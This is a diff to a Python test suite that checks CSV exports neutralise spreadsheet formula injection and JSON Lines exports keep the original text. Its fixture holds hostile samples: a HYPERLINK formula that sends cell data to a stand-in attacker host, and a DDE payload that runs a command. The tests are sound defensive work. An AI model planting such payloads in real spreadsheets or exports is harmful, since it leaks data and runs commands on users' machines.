@@ -374,7 +374,7 @@ def test_report_suite_qrels_is_refused_and_judged_only_rescores_every_dataset(tm
 
 # ---------------------------------------------------------------------- rows 10, 11: the pool file itself
 HOSTILE_DOCS = [
-    ("h0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "line\u2028separator and\u2029paragraph, \x85 too"),
+    ("h0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "line\u2028separator and\u2029paragraph, \x85 too"),
     ("h1", "+1+2", "=cmd|' /C calc'!A0"),
     ("h2", "-3+4", "@SUM(A1:A9)"),
     ("h3", "\tTabbed", "'quoted already"),
@@ -408,7 +408,7 @@ def test_pool_csv_neutralises_formulas_and_jsonl_keeps_text_and_u2028(tmp_path, 
     # CSV: no cell a spreadsheet would evaluate
     cells = [c for row in csv.reader(io.StringIO((tmp_path / "pool.csv").read_text(), newline="")) for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "''quoted already cells formulas" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells and "''quoted already cells formulas" in cells
     # JSON Lines: the text as it is, U+2028 and U+2029 inside strings, one object per line
     lines = (tmp_path / "pool.jsonl").read_text().split("\n")
     assert any('"=HYPERLINK(' in x for x in lines) and any("\u2028" in x for x in lines)
